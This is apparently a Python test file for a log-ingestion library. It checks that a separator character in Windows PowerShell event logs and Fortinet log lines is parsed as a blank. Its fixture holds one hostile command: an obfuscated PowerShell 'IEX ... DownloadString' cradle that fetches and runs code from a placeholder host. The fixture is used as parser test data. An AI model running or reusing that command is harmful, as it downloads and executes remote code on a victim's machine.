"""No sender parts a text into several values by writing the sign that we put between them (`ecs.BETWEEN`)."""

from collections.abc import Iterator
from typing import Any

import orjson
import polars as pl
import pytest

from collectors import catalogue, json_text
from hinomi import ecs
from tests.collectors.content import examples, intake

SCRIPT = "IEX <#{}#> (New-Object Net.WebClient).DownloadString('https://files.example.jp/a')"


def _written(value: Any, sign: str) -> Any:
    """The document with a sign behind the first letter of each text."""
    if isinstance(value, dict):
        return {name: _written(inner, sign) for name, inner in value.items()}
    if isinstance(value, list):
        return [_written(inner, sign) for inner in value]
    return f"{value[:1]}{sign}{value[1:]}" if isinstance(value, str) and len(value) > 1 else value


def _with(line: str, sign: str) -> Iterator[str]:
    """The line with a sign where it has blanks; of a document also with one in each text."""
    yield line.replace(" ", sign)
    try:  # behind other text a source may read letters, to which an escape is six of them
        yield orjson.dumps(_written(orjson.loads(line), sign)).decode()
    except orjson.JSONDecodeError:
        return


def _frames(name: str, lines: list[str]) -> list[pl.DataFrame]:
    return catalogue.find(name).parse(intake(*lines)).frames


def _rows(name: str, lines: list[str]) -> dict[int, dict[str, Any]]:
    return {row.pop("row"): row for frame in _frames(name, lines) for row in ecs.rows(frame)}


@pytest.mark.parametrize("name", sorted(catalogue.sources()))
def test_the_sign_is_read_as_a_blank(name: str) -> None:
    """In every place of every example: what a source makes of it is what it makes of a blank there."""
    told, blank = (
        [changed for line in examples(name) for changed in _with(line, sign)] for sign in (ecs.BETWEEN, " ")
    )
    assert told != blank
    read, wanted = _rows(name, told), _rows(name, blank)
    assert read and read == wanted


@pytest.mark.parametrize("form", ["flat", "event", "winlogbeat", "evtxecmd"])
def test_windows_events_keep_one_text(form: str) -> None:
    """Flat, as of EVTX, of Winlogbeat, and JSON within JSON: the script stays one value."""
    data = {"ScriptBlockText": SCRIPT.format(ecs.BETWEEN)}
    channel, provider = "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell"
    payload = orjson.dumps(
        {"EventData": {"Data": [{"@Name": "ScriptBlockText", "#text": data["ScriptBlockText"]}]}}
    )
    forms: dict[str, dict[str, Any]] = {
        "flat": {"EventID": 4104, "Channel": channel, "SourceName": provider, **data},
        "event": {
            "Event": {
                "System": {
                    "EventID": 4104,
                    "Channel": channel,
                    "Provider": {"#attributes": {"Name": provider}},
                },
                "EventData": data,
            }
        },
        "winlogbeat": {
            "winlog": {"event_id": 4104, "channel": channel, "provider_name": provider, "event_data": data}
        },
        "evtxecmd": {"EventId": 4104, "Channel": channel, "Provider": provider, "Payload": payload.decode()},
    }
    [frame] = _frames("windows.eventlog", [orjson.dumps(forms[form]).decode()])
    assert frame["winlog.event_data.ScriptBlockText"].to_list() == [SCRIPT.format(" ")]


def test_a_line_in_a_shippers_document_keeps_one_text() -> None:
    """Where JSON writes the sign as an escape, in the line that the document holds."""
    line = f'devid="FGT1" logid="0100032001" type="event" subtype="system" note="{SCRIPT}"'
    alone, held = line.format(ecs.BETWEEN), orjson.dumps({"message": line.format(ecs.BETWEEN)}).decode()
    rows = _rows("fortinet.fortigate", [alone, held])
    assert rows[0] == rows[1]
    assert rows[0]["fortinet.fortigate.note"] == SCRIPT.format(" ")


def test_letters_that_only_look_like_the_sign_stay() -> None:
    """A backslash before `u001f` is a backslash; a list's values, objects within it and names stay apart."""
    read = json_text.read(r'{"a": "x\\u001fy", "b": ["1\u001F2", {"c": "\u001f"}], "d": 1, "e": "\u001e"}')
    assert read == {"a": r"x\u001fy", "b": ["1 2", {"c": " "}], "d": 1, "e": "\x1e"}


@pytest.mark.parametrize("odd", ['{"a": "x\\u001fy"}', "[" * 120 + "]" * 120])
def test_one_odd_text_among_plain_ones_is_looked_at(odd: str) -> None:
    """Texts are read without a look at each only where none of them is odd; a plain one becomes the same either way."""
    plain = '{"a": "x"}'
    both, alone = (json_text.reader(pl.Series("line", texts)) for texts in ([plain, odd], [plain]))
    assert both(plain) == alone(plain) == {"a": "x"}
    if "u001f" in odd:
        assert both(odd) == {"a": "x y"}
    else:
        with pytest.raises(json_text.UnreadableError):
            both(odd)
    with pytest.raises(json_text.UnreadableError):
        alone("{")
